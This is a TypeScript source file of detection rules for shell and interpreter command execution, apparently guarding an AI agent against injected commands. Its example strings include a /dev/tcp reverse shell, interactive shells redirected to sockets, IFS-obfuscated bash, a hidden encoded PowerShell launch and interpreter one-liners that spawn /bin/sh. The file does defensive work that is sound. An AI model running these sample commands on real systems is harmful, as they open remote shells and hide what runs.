import type { Rule, RuleMatch } from '../rule.ts';
import { expression } from './boundary.ts';
import { WORD_START } from './shell_syntax.ts';

const COMMON = {
  pattern: 'shell_exec',
  threat_type: 'INJECTION',
  direction: 'inbound',
  source: 'https://attack.mitre.org/techniques/T1059/004/',
  remedy: 'Read the command, and find out whether the agent was meant to run it.',
} as const;

const SHELL_NAME = '(?:ba|z|da|k|mk|a|fi|tc)?sh';

/**
 * Whether a command reaches for nothing beyond the machine and hides nothing: documentation and build files are full of
 * such. What is bad in the command itself, or runs what it downloads, has rules of its own.
 */
function isLocal({ text }: RuleMatch): boolean {
  return (
    /^[^"'\x60]{1,40}["'\x60]?\$\((?:curl|wget)\s/.test(text) ||
    !/:\/\/(?!localhost|127\.)|\/dev\/(?:tcp|udp)\/(?!localhost\/|127\.|\[?::1)|\b(?:nc|ncat|socat|telnet|ssh|base64|iwr|powershell|eval)\b/i.test(
      text,
    )
  );
}

/** Programs that build, test and look things up. */
const TOOL = String.raw`["'\x60\s\\[(]{1,6}(?:git|gh|npm|npx|pnpm|yarn|tsc|node|python3?|pip3?|pytest|cargo|go|make|cmake|mvn|gradle|jest|vitest|eslint|prettier|docker|kubectl|ls|echo|date|pwd|which|wc|du|df|ffmpeg|convert|jq|sleep)(?![\w/-])[^|;&<>$\x60()]{0,120}?["'\],)]`;
const TOOL_STARTED = new RegExp(
  String.raw`(?:os\.system|os\.popen|subprocess\.\w{3,14}|popen\w?|execSync|execFileSync|execFile|spawnSync|spawn|shell_exec|passthru|system|exec)[ \t]{0,2}\([ \t]{0,2}\[?(?=[\\"'\x60])${TOOL}`,
  'g',
);

/** Whether whatever a script starts is named there and everyday. */
function startsOnlyTools(text: string): boolean {
  const left = text.replace(TOOL_STARTED, ' ');
  return (
    left !== text &&
    !/os\.system|os\.popen|subprocess\.\w|pty\.spawn|__import__|shell_exec|passthru|proc_open|popen\w?\(|(?:exec|spawn)(?:File)?(?:Sync)?[ \t]{0,2}\(|(?<![A-Za-z_.])system[ \t]{0,2}[("']|curl|wget|\/tmp\/|base64/.test(
      left,
    )
  );
}

/** The family `shell_exec`: a shell or interpreter started with a command in its arguments. */
export const SHELL_EXEC_RULES: readonly Rule[] = [
  {
    ...COMMON,
    id: 'shell_command_argument',
    // The everyday form of running anything: worth a line, not an alarm.
    severity: 'low',
    confidence: 'low',
    keywords: ['sh -', 'sh  -', 'sh$ifs', 'sh${ifs', 'sh.exe -', 'sh.exe$ifs', 'sh.exe${ifs'],
    expression: expression(
      'gi',
      String.raw`(?<![A-Za-z0-9_.-])${SHELL_NAME}(?:\.exe)?(?:[ \t]{1,4}|\$\{?IFS\}?(?:\$[0-9])?)(?:--[a-z]{2,12}[ \t]{1,4})?-[a-z]{0,4}c[a-z]{0,2}`,
      String.raw`(?:[ \t]{1,4}|\$\{?IFS\}?)(?=["'$\\\x60&A-Za-z/])[^\r\n]{2,160}`,
    ),
    reach: { before: 8, after: 216 },
    everyday: isLocal,
    describes: 'A shell that runs a command given as its argument.',
    get finds() {
      return [
        'bash -c "id; uname -a"',
        "sh -c 'cat notes.txt'",
        '/bin/zsh -lc "npm test"',
        'bash$IFS-c$IFS"id;ls"',
        '/bin/sh -c id',
        'bash --norc -c "id"',
      ];
    },
    get ignores() {
      return ['bash -x script.sh', 'push -c color', 'The option of sh -c', 'ssh -c aes128-ctr host'];
    },
  },
  {
    ...COMMON,
    id: 'shell_command_list',
    severity: 'low',
    confidence: 'low',
    keywords: [
      'sh","-',
      'sh", "-',
      "sh','-",
      "sh', '-",
      'sh\\",\\"-',
      'sh\\", \\"-',
      'sh",\'-',
      'sh\',"-',
      'sh", \'-',
      'sh\', "-',
    ],
    expression: expression(
      'gi',
      String.raw`["'/]${SHELL_NAME}\\{0,3}["']\s{0,3},\s{0,3}\\{0,3}["']-[a-z]{0,4}c[a-z]{0,2}\\{0,3}["']\s{0,3},\s{0,3}\\{0,3}["'][^\r\n]{3,160}`,
    ),
    reach: { before: 4, after: 210 },
    everyday: isLocal,
    describes: 'An argument list that starts a shell with a command.',
    get finds() {
      return [
        '{"command":["bash","-lc","ls -la"]}',
        String.raw`{"arguments":"{\"command\":[\"sh\", \"-c\", \"id; ls\"]}"}`,
        "subprocess.run(['/bin/sh','-c','whoami'])",
      ];
    },
    get ignores() {
      return ['["bash","-x","a.sh"]', '["push","-c","abc"]', '["sh", "-c"]'];
    },
  },
  {
    ...COMMON,
    id: 'interactive_shell',
    severity: 'low',
    confidence: 'low',
    keywords: ['sh -i'],
    expression: expression(
      'gi',
      String.raw`(?<![A-Za-z0-9_.-])${SHELL_NAME}[ \t]{1,2}-i[a-z]{0,2}(?![A-Za-z0-9_-])[^\r\n]{0,80}`,
    ),
    reach: { before: 4, after: 100 },
    // With a socket behind it, it is a reverse shell and reported as one.
    validate: ({ text, before, after }) =>
      !/\/dev\/(?:tcp|udp)\/|socket|fsockopen|\b(?:nc|ncat|netcat|telnet|openssl)\b/i.test(
        before + text + after,
      ) &&
      !/^\S{2,5}\s{1,2}-i[a-z]{0,2}c/i.test(text) &&
      /[<>|]/.test(text.replace(/<\/?[a-z][^<>]{0,80}>/gi, '')),
    describes: 'An interactive shell whose input or output goes somewhere else.',
    get finds() {
      return ['/bin/sh -i <&3 >&3 2>&3', 'bash -i 2>&1', 'cat /tmp/f | sh -i 2>&1'];
    },
    get ignores() {
      return [
        'bash -i',
        '<code>bash -i</code>',
        'ssh -i key.pem host > log',
        'bash -i >& /dev/tcp/192.0.2.1/99 0>&1',
      ];
    },
  },
  {
    ...COMMON,
    id: 'windows_shell_command',
    severity: 'low',
    confidence: 'low',
    keywords: ['cmd /c', 'cmd /k', 'cmd.exe /c', 'cmd.exe /k', 'cmd.exe","/c', 'cmd", "/c', 'cmd","/c'],
    expression: expression(
      'gi',
      String.raw`(?<![A-Za-z0-9_-])cmd(?:\.exe)?[\s"',\\]{1,8}/[ck][\s"',\\]{1,8}[^\r\n]{3,160}`,
    ),
    reach: { before: 0, after: 190 },
    everyday: isLocal,
    describes: 'The command interpreter of Windows with a command as its argument.',
    get finds() {
      return ['cmd /c whoami', 'cmd.exe /c "dir c:\\"', '["cmd","/c","whoami"]'];
    },
    get ignores() {
      return ['cmd /cd', 'cmd.exe is there', 'the cmd /c'];
    },
  },
  {
    ...COMMON,
    id: 'powershell_encoded_command',
    severity: 'high',
    confidence: 'high',
    keywords: ['powershell', 'pwsh'],
    expression: expression(
      'gi',
      String.raw`(?<![A-Za-z0-9_-])(?:powershell|pwsh)(?:\.exe)?[^\r\n|;]{0,160}?[\s"',\\][-/]e(?:c|nc|nco|ncod|ncode|ncoded|ncodedcommand)?[\s"',\\]{1,8}[A-Za-z0-9+/]{24,400}={0,2}`,
    ),
    reach: { before: 0, after: 600 },
    source:
      'https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_powershell_exe',
    describes: 'A PowerShell command that is encoded so that nobody reads it.',
    get finds() {
      return [
        'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
        'powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
        'pwsh.exe -EncodedCommand ZQBjAGgAbwAgACIAaABlAGwAbABvACIA',
        '["powershell","-e","ZQBjAGgAbwAgACIAaABlAGwAbABvACIA"]',
      ];
    },
    get ignores() {
      return [
        'powershell -ExecutionPolicy Bypass -File a.ps1',
        'powershell -Command Get-Process',
        'powershell -enc UTF8',
      ];
    },
  },
  {
    ...COMMON,
    id: 'interpreter_one_liner',
    severity: 'medium',
    confidence: 'medium',
    keywords: ['-c "', "-c '", '-c \\', 'perl -', 'ruby -', 'node -', 'php -'],
    expression: expression(
      'gi',
      WORD_START,
      String.raw`(?:python[23]?(?:\.[0-9]{1,2})?[ \t]{1,4}-c|perl[ \t]{1,4}-[A-Za-z]{0,4}e|ruby[ \t]{1,4}-[A-Za-z]{0,8}e|node[ \t]{1,4}(?:-e|--eval|-p)|php[ \t]{1,4}-r)`,
      String.raw`[ \t]{1,4}\\{0,3}["'][^\r\n]{0,240}?`,
      String.raw`(?:os\.system|os\.popen|subprocess|pty\.spawn|child_process|__import__|shell_exec|passthru|proc_open|popen\(|(?<![A-Za-z_.])(?:exec|system)[ \t]{0,2}[("'])`,
      String.raw`[^\r\n]{0,120}`,
    ),
    reach: { before: 16, after: 440 },
    // Sockets make it a reverse shell, reported as one.
    validate: ({ text }) =>
      !/socket|TCPSocket|IO::Socket|\.connect\(/i.test(text) &&
      !/urlopen/.test(text) &&
      !startsOnlyTools(text),
    describes: 'A one-line script that starts a program.',
    get finds() {
      return [
        'python3 -c \'import os; os.system("id")\'',
        'perl -e \'exec "/bin/sh"\'',
        'php -r \'system("id");\'',
        'node -e \'require("child_process").execSync("id")\'',
      ];
    },
    get ignores() {
      return [
        "python3 -c 'print(1)'",
        'node -e "console.log(1)"',
        "perl -pe 's/a/b/'",
        'python -c "import sys; print(sys.version)"',
        'python3 -c \'import os; print(os.system("git status --short"))\'',
        'node -e \'const { spawn } = require("child_process"); spawn("tsc", ["--noEmit"])\'',
      ];
    },
  },
];
